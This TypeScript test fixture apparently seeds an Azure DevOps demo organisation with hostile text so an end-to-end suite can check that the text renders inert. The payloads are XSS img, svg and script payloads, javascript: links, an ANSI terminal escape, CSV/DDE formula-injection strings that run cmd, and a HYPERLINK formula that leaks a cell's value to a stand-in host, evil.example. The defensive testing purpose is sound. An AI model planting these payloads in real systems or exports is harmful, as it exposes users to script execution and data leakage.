/**
 * The hostile demo: the same organisation with script-looking, link-looking and formula-looking
 * text in every field a user of Azure DevOps controls. Applied to a generated demo before the
 * emulator indexes it, so the normal demo (and every golden built on it) stays as it is.
 */
import type {
  DemoApproval,
  DemoCheckSuite,
  DemoOrganisation,
  DemoPullRequest,
  DemoRepository,
  DemoWorkItem,
} from "./model";

/** Payloads that run `window.__pwned=1` if anything renders them as HTML or follows them as links. */
export const HOSTILE_PAYLOADS = {
  img: '<img src=x onerror="window.__pwned=1">',
  script: "<script>window.__pwned=1</script>",
  jsUrl: "javascript:window.__pwned=1",
  svg: '"><svg onload=window.__pwned=1>',
  mdLink: "[x](javascript:window.__pwned=1)",
  formula: '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
  plusFormula: "+cmd|' /C calc'!A0",
  minusFormula: "-2+3+cmd|' /C calc'!A0",
  atFormula: "@SUM(1+1)*cmd|' /C calc'!A0",
  /** An ANSI escape that clears a terminal: a table written to one must not carry it. */
  terminal: "\u001b[2J\u001b[31mred\u001b[0m",
} as const;

/** Git ref names cannot hold spaces: the same payloads without them (still valid ref names). */
export const HOSTILE_REF_PAYLOADS = {
  img: "<img/src=x/onerror=window.__pwned=1>",
  svg: '"><svg/onload=window.__pwned=1>',
  script: "<script>window.__pwned=1</script>",
} as const;

/** The repository whose default branch gets a script-looking name. */
export const HOSTILE_DEFAULT_BRANCH_REPOSITORY = "shared-libs";
export const HOSTILE_DEFAULT_BRANCH = `refs/heads/main${HOSTILE_REF_PAYLOADS.svg}`;
/** The baseline file of the hostile demo (in infra-terraform, beside the platform baseline). */
export const HOSTILE_BASELINE_PATH = "/compliance/baseline.yml";
/** A baseline file the engine refuses, with script-looking rule names in its problems. */
export const HOSTILE_BROKEN_BASELINE_PATH = "/compliance/broken.yml";
export const HOSTILE_BASELINE_NAME = `Baseline ${HOSTILE_PAYLOADS.img}`;

/** Every payload meant for prose (titles, comments, names); cycled through the records. */
const TEXT_PAYLOADS: readonly string[] = [
  HOSTILE_PAYLOADS.img,
  HOSTILE_PAYLOADS.formula,
  HOSTILE_PAYLOADS.script,
  HOSTILE_PAYLOADS.plusFormula,
  HOSTILE_PAYLOADS.svg,
  HOSTILE_PAYLOADS.minusFormula,
  HOSTILE_PAYLOADS.mdLink,
  HOSTILE_PAYLOADS.atFormula,
  HOSTILE_PAYLOADS.jsUrl,
  HOSTILE_PAYLOADS.terminal,
];

function payload(index: number): string {
  return TEXT_PAYLOADS[index % TEXT_PAYLOADS.length];
}

/** A YAML double-quoted scalar (JSON strings are valid YAML). */
const yamlString = (text: string) => JSON.stringify(text);

export function hostileBaseline(): string {
  return [
    "# A baseline whose text is script-looking: it must show as text wherever it appears.",
    `name: ${yamlString(HOSTILE_BASELINE_NAME)}`,
    "branches:",
    "  - default",
    `  - ${yamlString(`refs/heads/release/${HOSTILE_REF_PAYLOADS.script}*`)}`,
    "rules:",
    "  branch.min-reviewers:",
    "    minimumApprovers: 2",
    "  branch.build-validation: {}",
    "exceptions:",
    "  - rule: branch.build-validation",
    "    repository: docs-site",
    `    justification: ${yamlString(`Static site ${HOSTILE_PAYLOADS.script} ${HOSTILE_PAYLOADS.mdLink}`)}`,
    "    expires: 2999-12-31",
    "  - rule: branch.min-reviewers",
    `    repository: ${yamlString(HOSTILE_PAYLOADS.svg)}`,
    `    justification: ${yamlString(HOSTILE_PAYLOADS.formula)}`,
    "    expires: 2999-12-31",
    "",
  ].join("\n");
}

export function brokenBaseline(): string {
  return [
    `name: ${yamlString(`Broken ${HOSTILE_PAYLOADS.svg}`)}`,
    "rules:",
    `  ${yamlString(HOSTILE_PAYLOADS.img)}: {}`,
    "",
  ].join("\n");
}

/** Renames the default branch everywhere it is referenced (refs, PRs, runs, policy scopes). */
function renameDefaultBranch(demo: DemoOrganisation, repo: DemoRepository): void {
  const old = repo.defaultBranch;
  if (!old) return;
  repo.defaultBranch = HOSTILE_DEFAULT_BRANCH;
  for (const ref of repo.refs) if (ref.name === old) ref.name = HOSTILE_DEFAULT_BRANCH;
  for (const pr of demo.pullRequests) {
    if (pr.repositoryId === repo.id && pr.targetRefName === old) {
      pr.targetRefName = HOSTILE_DEFAULT_BRANCH;
    }
  }
  for (const build of demo.builds) {
    if (build.repositoryId === repo.id && build.sourceBranch === old) {
      build.sourceBranch = HOSTILE_DEFAULT_BRANCH;
    }
  }
  for (const policy of demo.policies) {
    for (const revision of policy.revisions) {
      const scope = revision.settings.scope;
      if (!Array.isArray(scope)) continue;
      for (const entry of scope as { repositoryId?: string | null; refName?: string | null }[]) {
        if (entry.repositoryId === repo.id && entry.refName === old) {
          entry.refName = HOSTILE_DEFAULT_BRANCH;
        }
      }
    }
  }
}

type Next = () => string;

function hostileWorkItem(item: DemoWorkItem, next: Next): void {
  // Leading payloads: a spreadsheet only evaluates a formula at the start of a cell.
  item.title = `${next()} ${item.title}`;
  item.description = `${next()} ${item.description ?? ""}`.trim();
}

function hostilePullRequest(demo: DemoOrganisation, pr: DemoPullRequest, next: Next): void {
  pr.title = `${next()} ${pr.title}`;
  pr.description = `${next()} ${pr.description}`;
  const branch = pr.sourceRefName.startsWith("refs/heads/")
    ? `${pr.sourceRefName}${HOSTILE_REF_PAYLOADS.img}`
    : pr.sourceRefName;
  const repo = demo.repositories.find((candidate) => candidate.id === pr.repositoryId);
  const ref = repo?.refs.find((candidate) => candidate.name === pr.sourceRefName);
  if (ref) ref.name = branch;
  pr.sourceRefName = branch;
}

function hostileSuite(suite: DemoCheckSuite, next: Next): void {
  suite.message = `${next()} ${suite.message}`.trim();
  for (const run of suite.checkRuns) run.resultMessage = `${next()} ${run.resultMessage}`;
}

function hostileApproval(approval: DemoApproval, next: Next): void {
  approval.instructions = `${next()} ${approval.instructions}`;
  for (const step of approval.steps) {
    if (step.status !== "pending") step.comment = `${next()} ${step.comment ?? ""}`.trim();
  }
}

const fresh = <T extends { history?: true }>(items: T[]): T[] =>
  items.filter((item) => !item.history);
const older = <T extends { history?: true }>(items: T[]): T[] =>
  items.filter((item) => item.history);

/**
 * The delivery history's records last, so every other record keeps the payload it would have
 * without the history (the hostile e2e suite looks for them where they always were).
 */
function hostileHistory(demo: DemoOrganisation, next: Next): void {
  for (const item of older(demo.workItems)) hostileWorkItem(item, next);
  for (const pr of older(demo.pullRequests)) hostilePullRequest(demo, pr, next);
  for (const repo of demo.repositories) {
    for (const commit of older([...repo.commits, ...repo.branchCommits])) {
      commit.comment = `${next()} ${commit.comment}`;
    }
  }
  for (const suite of older(demo.checkSuites)) hostileSuite(suite, next);
  for (const approval of older(demo.approvals)) hostileApproval(approval, next);
}

/** Puts hostile text into the demo, in place. Deterministic: the same demo gives the same result. */
export function applyHostileText(demo: DemoOrganisation): void {
  let index = 0;
  const next = () => payload(index++);

  for (const item of fresh(demo.workItems)) hostileWorkItem(item, next);
  for (const pr of fresh(demo.pullRequests)) hostilePullRequest(demo, pr, next);
  for (const repo of demo.repositories) {
    for (const commit of fresh([...repo.commits, ...repo.branchCommits])) {
      commit.comment = `${next()} ${commit.comment}`;
    }
    if (repo.commits.length > 0) {
      repo.refs.push({
        name: `refs/heads/${HOSTILE_REF_PAYLOADS.script}`,
        objectId: repo.commits[0].commitId,
        creator: repo.commits[0].author,
      });
    }
  }
  const defaultBranchRepo = demo.repositories.find(
    (repo) =>
      repo.projectId === demo.mainProjectId && repo.name === HOSTILE_DEFAULT_BRANCH_REPOSITORY,
  );
  if (defaultBranchRepo) renameDefaultBranch(demo, defaultBranchRepo);

  const definitionNames = new Map<number, string>();
  for (const definition of demo.buildDefinitions) {
    definition.name = `${definition.name} ${next()}`;
    definitionNames.set(definition.id, definition.name);
  }
  for (const record of demo.deploymentRecords) {
    record.definition.name = definitionNames.get(record.definition.id) ?? record.definition.name;
    record.owner.name = `${record.owner.name} ${HOSTILE_PAYLOADS.svg}`;
  }
  // Environment names keep their prefix (prod…), so production detection still sees them.
  const environmentNames = new Map<number, string>();
  for (const environment of demo.environments) {
    environment.name = `${environment.name} ${next()}`;
    environment.description = `${next()} ${environment.description}`;
    environmentNames.set(environment.id, environment.name);
  }
  for (const configuration of demo.checkConfigurations) {
    const name = environmentNames.get(Number(configuration.resource.id));
    if (configuration.resource.type === "environment" && name) configuration.resource.name = name;
  }
  for (const suite of fresh(demo.checkSuites)) hostileSuite(suite, next);
  for (const approval of fresh(demo.approvals)) hostileApproval(approval, next);
  const stageNames = new Map<number, string>();
  for (const definition of demo.releaseDefinitions) {
    definition.name = `${definition.name} ${next()}`;
    for (const environment of definition.environments) {
      environment.name = `${environment.name} ${next()}`;
      stageNames.set(environment.id, environment.name);
    }
  }
  for (const release of demo.releases) {
    // Leading, so a CSV cell of the release name starts with a formula character.
    release.name = `${next()} ${release.name}`;
    for (const environment of release.environments) {
      environment.name = stageNames.get(environment.definitionEnvironmentId) ?? environment.name;
      for (const approval of [...environment.preApprovals, ...environment.postApprovals]) {
        if (approval.status !== "pending") approval.comments = `${next()} ${approval.comments}`;
      }
      for (const step of environment.deploySteps) {
        for (const gates of [step.preGates, step.postGates]) {
          for (const sample of gates?.samples ?? []) {
            for (const result of sample.results)
              result.message = `${next()} ${result.message ?? ""}`;
          }
        }
      }
    }
  }
  hostileHistory(demo, next);
  // A display name is free text too (one person, so approvals and authors show it).
  const person = demo.people[demo.people.length - 1];
  if (person) person.displayName = `${person.displayName} ${HOSTILE_PAYLOADS.img}`;

  const baselineRepo = demo.repositories.find(
    (repo) => repo.projectId === demo.mainProjectId && repo.name === "infra-terraform",
  );
  if (baselineRepo) {
    baselineRepo.files = {
      ...baselineRepo.files,
      [HOSTILE_BASELINE_PATH]: hostileBaseline(),
      [HOSTILE_BROKEN_BASELINE_PATH]: brokenBaseline(),
    };
  }
}
